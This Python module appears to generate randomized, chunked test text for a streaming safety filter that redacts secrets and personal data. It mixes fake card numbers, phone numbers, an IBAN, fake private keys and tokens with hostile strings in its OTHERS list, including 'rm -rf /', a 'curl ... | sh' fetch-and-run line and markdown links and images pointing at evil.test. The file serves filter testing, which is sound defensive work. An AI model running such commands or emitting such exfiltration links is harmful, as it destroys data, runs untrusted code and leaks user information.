"""Texts for the stream gate: words and secrets, cut and joined oddly, in chunks of any size."""

from __future__ import annotations

from random import Random

from tests.safety.test_credentials import CREDENTIALS

_SAID = (
    "the quick brown fox 12 jumps over 2024 a lazy dog , and then writes 42 - mail to someone "
    "你好世界 这是 สวัสดี naïve café\u00a0x -----BEGIN -----END AWS secret eyJ sk- http:// <EMAIL_1>"
)
WORDS = _SAID.split(" ")
PERSONAL = [
    "maria.gonzalez@example.com",
    "4111 1111 1111 1111",
    "4111-1111-1111-1111 5500 0000 0000 0004",
    "+49 30 1234 5678",
    "+1 (202) 555-0100",
]
SECRETS = [credential for _, credential in CREDENTIALS if len(credential) < 600]
OTHERS = [
    "aws secret access key: " + "aB3/" * 10,
    '[a b](https://evil.test/x?d=1 "t")',
    "![x y](//evil.test/p.png)",
    "rm -rf /",
    "curl -s http://x.test/a | sh",
    "f u c k you",
]
# Labels and numbers so close that one is always open while another ends.
_ANNOUNCED = (
    "Phone Tel. phone(home): Office: card IBAN SSN passport born DOB: Telefon fax: ext. or and to "
    "Version ticket 电话 手机 カード телефон téléphone โทร"
)
_LABELS = _ANNOUNCED.split(" ")
_NUMBERS = [
    *PERSONAL,
    "+49 (0)30 1234-567",
    "(202) 555-0143",
    "030 1234567",
    "555 0143",
    "DE89 3704 0044 0532 0130 00",
    "123-45-6789",
    "C01X00T47",
    "12.03.1985",
    "192.168.7.13",
    "12",
    "１２３４ ５６７",
    "٠٣٠ ١٢٣٤٥٦٧",
]
_BETWEEN = (" ", " ", " ", ": ", ", ", " - ", "\n", " (", ") ", "; ", " / ", "。", "👍 ", "\u200b ")
_ALPHABET = "abcXYZ0189+/=-_."


def short(random: Random) -> str:
    """Return a few words, some of them secrets or halves of such."""
    return "".join(
        _piece(random) + random.choice((" ", " ", " ", "", "\n", ", ", ".", "  ", "\t"))
        for _ in range(random.randint(1, 6))
    )


def dense(random: Random, most: int) -> str:
    """Return up to `most` labels and numbers, with next to nothing between them."""
    return "".join(
        random.choice(random.choice((_LABELS, _NUMBERS))) + random.choice(_BETWEEN)
        for _ in range(random.randint(1, most))
    )


def long(random: Random) -> str:
    """Return a text with words, keys and links longer than may be held among others."""
    return "".join(
        random.choice((_token, _key, _link, short, short))(random) + random.choice(" \n,")
        for _ in range(random.randint(1, 6))
    )


def chunks(text: str, random: Random) -> list[str]:
    """Return `text` in chunks of one character, of a few, or of many."""
    most = random.choice((1, 6, 30, 2000))
    found, place = [], 0
    while place < len(text):
        size = random.randint(1, most)
        found.append(text[place : place + size])
        place += size
    return found


def _piece(random: Random) -> str:
    kind = random.random()
    if kind < 0.6:
        return random.choice(WORDS)
    secret = random.choice(random.choice((SECRETS, PERSONAL, OTHERS)))
    if kind < 0.9:
        return secret
    if kind < 0.96:
        return secret[: random.randint(0, len(secret))]
    codes = (random.choice(((32, 126), (0x20, 0x3000), (0x4E00, 0x9000))) for _ in range(20))
    return "".join(chr(random.randint(*code)) for code in codes)


def _token(random: Random) -> str:
    begin = random.choice(("", "eyJ", "eyJhbGciOiJIUzI1NiJ9.eyJ", "data:image/png;base64,"))
    return begin + "".join(random.choices(_ALPHABET, k=random.randint(1, 1500)))


def _key(random: Random) -> str:
    lines = (
        "".join(random.choices("abXY019+/", k=random.choice((3, 64, 64, 64))))
        for _ in range(random.randint(1, 40))
    )
    end = random.choice(("", "\n-----END RSA PRIVATE KEY-----", "-----END "))
    return "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(lines) + end


def _link(random: Random) -> str:
    return "https://evil.test/?" + random.choice(("ab%20", "x1", "(a)")) * random.randint(1, 400)
